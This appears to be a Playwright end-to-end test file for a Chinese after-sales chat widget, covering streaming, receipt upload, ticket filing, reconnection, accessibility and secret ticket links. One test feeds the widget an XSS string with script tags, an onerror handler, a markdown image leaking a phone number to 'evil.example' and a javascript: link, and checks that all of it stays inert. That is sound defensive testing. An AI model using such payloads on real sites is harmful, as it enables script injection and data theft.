/**
 * The widget end to end in headless Chromium (Debian's chromium driven by playwright-core) against
 * the real server: the demo page, a streamed answer, a receipt photo, a ticket with its SLA, the
 * star survey, a dropped connection, hostile text, a phone-sized screen and the keyboard.
 * One browser for the whole file; a screenshot of each step goes to test-results/screenshots/.
 */
import fs from 'node:fs';
import path from 'node:path';
import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTcpProxy } from './tcp-proxy';
import { startWebServer, type WebServer } from './web-client';
import { sqliteOf } from '../../testing/desk';

const CHROMIUM = '/usr/bin/chromium';
/** How long a UI expectation may take on a busy two-core machine (it passes as soon as it holds). */
const WAIT = { timeout: 15_000 };
const SHOTS = path.resolve(import.meta.dirname, '../../test-results/screenshots');
const RECEIPT = path.resolve(import.meta.dirname, '../fixtures/receipts/zh-clean-air-conditioner.png');

let server: WebServer;
let browser: Browser;
let context: BrowserContext;

beforeAll(async () => {
  if (!fs.existsSync(CHROMIUM)) {
    throw new Error(`Chromium not found at ${CHROMIUM}: install it with "apt-get install chromium" (it is listed in .ci/apt-packages)`);
  }
  fs.mkdirSync(SHOTS, { recursive: true });
  server = await startWebServer();
  browser = await chromium.launch({
    executablePath: CHROMIUM,
    args: ['--headless', '--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
  });
  // One context for the file (a context costs seconds here); each test opens its own tab.
  context = await browser.newContext({ viewport: { width: 1280, height: 860 }, locale: 'zh-CN', timezoneId: 'Asia/Shanghai' });
});
afterAll(async () => {
  await browser?.close();
  await server?.dispose();
});

/** A fresh tab (its own sessionStorage, so its own chat session) on the demo page. */
async function openDemo(options: { lang?: 'zh' | 'en'; viewport?: { width: number; height: number }; base?: string } = {}): Promise<Page> {
  const page = await context.newPage();
  if (options.viewport) await page.setViewportSize(options.viewport);
  await page.goto(`${options.base ?? server.url}/${options.lang ? `?lang=${options.lang}` : ''}`);
  return page;
}

const shot = (page: Page, name: string) => page.screenshot({ path: path.join(SHOTS, `${name}.png`) });
const botBubbles = (page: Page) => page.locator('#aftersales-widget .msg.bot:not(.streaming) .bubble');

async function send(page: Page, text: string): Promise<string> {
  const before = await botBubbles(page).count();
  await page.locator('#asw-input').fill(text);
  await page.locator('#asw-input').press('Enter');
  await expect.poll(() => botBubbles(page).count(), { timeout: 15_000 }).toBeGreaterThan(before);
  return (await botBubbles(page).last().textContent()) ?? '';
}

/** The web conversation most recently written to (the one this page is having). */
async function latestConversation(): Promise<number> {
  const row = await sqliteOf(server.context.assistant.desk).db.get<{ id: number }>("SELECT id FROM conversations WHERE channel = 'web' ORDER BY updated_at DESC, id DESC LIMIT 1");
  return row!.id;
}

describe('the widget on the demo page', () => {
  it('answers a fault question as a stream, reads a receipt, files a ticket with its SLA and takes the survey', async () => {
    const page = await openDemo();
    await expect.poll(() => page.locator('#aftersales-widget .launcher').isVisible(), WAIT).toBe(true);
    await expect.poll(() => page.title(), WAIT).toContain('售后服务');
    await shot(page, '01-demo-page');

    await page.locator('#aftersales-widget .launcher').click();
    await expect.poll(() => page.locator('#asw-panel').isVisible(), WAIT).toBe(true);
    // Watch the reply bubble grow while it streams.
    await page.evaluate(() => {
      const root = document.querySelector('#aftersales-widget')!.shadowRoot!;
      const lengths: number[] = [];
      (window as unknown as { __streamLengths: number[] }).__streamLengths = lengths;
      new MutationObserver(() => {
        const live = root.querySelector('.msg.streaming .bubble');
        if (live) lengths.push(live.textContent.length);
      }).observe(root.querySelector('.log')!, { subtree: true, childList: true, characterData: true });
    });
    const answer = await send(page, '格力空调显示E1怎么办');
    expect(answer).toMatch(/格力空调E1[\s\S]*（依据：/);
    const lengths = await page.evaluate(() => (window as unknown as { __streamLengths: number[] }).__streamLengths);
    // It grew in steps (a long reply streams in at most four deltas, and a busy browser may fold two
    // of them into one mutation): more than one length was seen, the first well short of the whole.
    expect(new Set(lengths).size).toBeGreaterThanOrEqual(2);
    expect(Math.min(...lengths)).toBeLessThan(answer.length / 2);
    expect(Math.max(...lengths)).toBeLessThanOrEqual(answer.length);
    await expect.poll(() => page.locator('#aftersales-widget .chip').allTextContents(), WAIT).toContain('还是不行');
    await shot(page, '02-streamed-answer');

    await page.locator('#aftersales-widget .chip', { hasText: '还是不行' }).click();
    await expect.poll(async () => (await botBubbles(page).last().textContent()) ?? '', WAIT).toMatch(/型号/);
    expect(await send(page, 'KFR-35GW')).toMatch(/购买|发票/);

    // The receipt photo: shown at once with its progress, then read.
    const before = await botBubbles(page).count();
    await page.locator('#aftersales-widget input[type=file]').setInputFiles(RECEIPT);
    await expect.poll(() => page.locator('#aftersales-widget .msg.customer img.thumb').count(), WAIT).toBe(1);
    await expect.poll(() => page.locator('#aftersales-widget .upload-progress').evaluate((p: HTMLProgressElement) => p.value), WAIT).toBe(100);
    await expect.poll(() => botBubbles(page).count(), { timeout: 30_000 }).toBeGreaterThan(before);
    expect(await botBubbles(page).last().textContent()).toMatch(/手机号/);
    await shot(page, '03-receipt-uploaded');

    expect(await send(page, '13812345678')).toMatch(/地址/);
    expect(await send(page, '北京市海淀区中关村大街1号')).toMatch(/购买时间：2025年3月15日/);
    const filed = await send(page, '是');
    const number = /AS-\d{8}-[0-9A-Z]{4}-[0-9A-Z]{4}/.exec(filed)?.[0];
    expect(number).toBeDefined();
    const ticketBox = page.locator('#aftersales-widget .ticket');
    await expect.poll(() => ticketBox.isVisible(), WAIT).toBe(true);
    expect(await ticketBox.textContent()).toContain(`工单 ${number}`);
    expect(await ticketBox.locator('.ticket-sla').textContent()).toMatch(/最迟联系时间 .+ · 预计完成 .+/);
    await shot(page, '04-ticket-filed');

    // An agent resolves it from the desk; the survey arrives through the outbox relay.
    const conversationId = await latestConversation();
    const { handoffs } = server.context.assistant;
    await handoffs.takeOver(conversationId, 'U-AGENT');
    await handoffs.resolve(conversationId, 'U-AGENT', 'fixed on site', { closeTicket: true }); // the work is done: close the ticket too
    await server.context.relays[0]!.drain();
    await expect.poll(() => page.locator('#aftersales-widget .survey').isVisible(), WAIT).toBe(true);
    expect(await page.locator('#aftersales-widget .star').count()).toBe(5);
    await page.locator('#aftersales-widget .star[data-score="5"]').click();
    await expect.poll(() => page.locator('#aftersales-widget .survey').isVisible(), WAIT).toBe(false);
    await expect.poll(async () => (await botBubbles(page).last().textContent()) ?? '', WAIT).toMatch(/感谢|谢谢/);
    expect((await server.context.assistant.desk.tickets.get(number!)).status).toBe('closed');
    await shot(page, '05-survey-answered');
    await page.close();
  });

  it('reconnects after a dropped connection and shows what it missed exactly once', async () => {
    // The page reaches the server through a proxy the test can cut.
    const proxy = await startTcpProxy(server.port);
    const page = await openDemo({ base: `http://localhost:${proxy.port}` });
    await page.locator('#aftersales-widget .launcher').click();
    await send(page, '洗衣机不排水');
    await send(page, '转人工');
    const conversationId = await latestConversation();
    const { handoffs } = server.context.assistant;
    await handoffs.takeOver(conversationId, 'U-AGENT');
    await server.context.relays[0]!.drain();
    await expect.poll(() => page.locator('#aftersales-widget .msg.agent').count(), WAIT).toBe(1);

    // Drop the connection, let the agent answer meanwhile, then come back online.
    proxy.cut();
    await handoffs.agentReply(conversationId, 'U-AGENT', '请检查排水管是否弯折，过滤器是否堵塞。');
    await server.context.relays[0]!.drain();
    await expect.poll(() => page.locator('#aftersales-widget .status').textContent(), WAIT).toMatch(/重连/);
    expect(await page.locator('#aftersales-widget .msg .bubble').allTextContents()).not.toContain('请检查排水管是否弯折，过滤器是否堵塞。');
    await shot(page, '06-connection-dropped');
    proxy.restore();
    await expect.poll(() => page.locator('#aftersales-widget .msg.agent .bubble').allTextContents(), { timeout: 20_000 }).toContain('请检查排水管是否弯折，过滤器是否堵塞。');
    const texts = await page.locator('#aftersales-widget .msg .bubble').allTextContents();
    expect(texts.filter((t) => t === '请检查排水管是否弯折，过滤器是否堵塞。')).toHaveLength(1);
    expect(texts.filter((t) => t === '洗衣机不排水')).toHaveLength(1);
    const ids = await page.locator('#aftersales-widget .msg[data-id]').evaluateAll((nodes) => nodes.map((n) => n.getAttribute('data-id')));
    expect(new Set(ids).size).toBe(ids.length);
    await shot(page, '07-reconnected');
    await page.close();
    await proxy.close();
  });

  it('renders script tags, HTML and markdown image links as inert text', async () => {
    const page = await openDemo();
    const outbound: string[] = [];
    page.on('request', (r) => outbound.push(r.url()));
    await page.locator('#aftersales-widget .launcher').click();
    const attack = '<script>window.__pwned=1</script><img src=x onerror="window.__pwned=2"><b>bold</b> ![s](https://evil.example/p?d=13800000000) [点我](javascript:alert(1))';
    await send(page, attack);
    const mine = page.locator('#aftersales-widget .msg.customer .bubble').last();
    expect(await mine.textContent()).toBe(attack);
    const found = await page.evaluate(() => {
      const root = document.querySelector('#aftersales-widget')!.shadowRoot!;
      const log = root.querySelector('.log')!;
      return {
        scripts: log.querySelectorAll('script').length,
        images: log.querySelectorAll('img').length,
        bold: log.querySelectorAll('b').length,
        links: log.querySelectorAll('a').length,
        pwned: (window as unknown as { __pwned?: number }).__pwned ?? null,
      };
    });
    expect(found).toEqual({ scripts: 0, images: 0, bold: 0, links: 0, pwned: null });
    expect(outbound.filter((u) => u.includes('evil.example'))).toEqual([]);
    await shot(page, '08-hostile-text-inert');
    await page.close();
  });

  it('works on a phone-sized screen, by keyboard, and in English', async () => {
    const page = await openDemo({ lang: 'en', viewport: { width: 390, height: 844 } });
    expect(await page.locator('#aftersales-widget .launcher').textContent()).toContain('Chat with us');
    // Keyboard only: tab to the launcher, open it, type, send, close with Escape.
    const launcher = page.locator('#aftersales-widget .launcher');
    await launcher.focus();
    await page.keyboard.press('Enter');
    await expect.poll(() => page.locator('#asw-panel').isVisible(), WAIT).toBe(true);
    expect(await launcher.getAttribute('aria-expanded')).toBe('true');
    expect(await page.evaluate(() => document.querySelector('#aftersales-widget')!.shadowRoot!.activeElement?.id)).toBe('asw-input');
    const box = await page.locator('#asw-panel').boundingBox();
    expect(box).toMatchObject({ x: 0, y: 0, width: 390, height: 844 });
    await page.keyboard.type('My washing machine will not drain');
    await page.keyboard.press('Enter');
    await expect.poll(() => botBubbles(page).count(), { timeout: 15_000 }).toBeGreaterThan(0);
    expect(await botBubbles(page).last().textContent()).toMatch(/[A-Za-z]{3,}/);
    expect(await page.locator('#aftersales-widget .log').getAttribute('role')).toBe('log');
    expect(await page.locator('#aftersales-widget .attach').getAttribute('aria-label')).toBe('Upload a photo of your receipt');
    await shot(page, '09-phone-english');
    await page.keyboard.press('Escape');
    await expect.poll(() => page.locator('#asw-panel').isVisible(), WAIT).toBe(false);
    expect(await launcher.getAttribute('aria-expanded')).toBe('false');
    await page.close();
  });

  it('shows a clear error when a photo is refused, and keeps the chat usable', async () => {
    const page = await openDemo();
    await page.locator('#aftersales-widget .launcher').click();
    await send(page, '空调不制冷');
    await page.locator('#aftersales-widget input[type=file]').setInputFiles({ name: 'receipt.jpg', mimeType: 'image/jpeg', buffer: Buffer.from('<script>alert(1)</script>') });
    const error = page.locator('#aftersales-widget .error');
    await expect.poll(() => error.isVisible(), WAIT).toBe(true);
    expect(await error.textContent()).toBe('仅支持 JPEG、PNG、WebP 照片。');
    expect(await page.locator('#aftersales-widget .msg.customer.failed').count()).toBe(1);
    await shot(page, '10-refused-upload');
    expect(await send(page, '还是不行')).toMatch(/型号|维修/);
    await page.close();
  });

  it('opens a ticket from its texted secret link: the ticket is shown and the key leaves the address bar', async () => {
    const { desk, links } = server.context.assistant;
    const customer = await desk.customers.resolve({ channel: 'wechat', externalId: 'wx-link-owner' });
    const { ticket } = await desk.tickets.create(
      { customerId: customer.id, channel: 'wechat', type: 'repair_request', priority: 'P3', symptom: '热水器不出热水', contactPhone: '13911114444' },
      { actor: 'bot' },
    );
    const key = await desk.access.issueLinkKey(ticket.id);
    const page = await context.newPage();
    await page.goto(links.url(ticket.number, key).replace(/^http:\/\/localhost:\d+/, server.url));
    await expect.poll(() => page.locator('#aftersales-widget .ticket-number').textContent(), WAIT).toContain(ticket.number);
    await expect.poll(async () => (await botBubbles(page).allTextContents()).join('\n'), WAIT).toContain(ticket.number);
    expect(page.url()).not.toContain(key);
    await shot(page, '11-ticket-link');
    // A wrong key shows why, and opens nothing.
    const wrong = await context.newPage();
    await wrong.goto(links.url(ticket.number, `${key.slice(0, -3)}abc`).replace(/^http:\/\/localhost:\d+/, server.url));
    await expect.poll(() => wrong.locator('#aftersales-widget .error').textContent(), WAIT).toContain('链接无效');
    expect(await wrong.locator('#aftersales-widget .ticket-number').count()).toBe(0);
    await wrong.close();
    await page.close();
  });
});
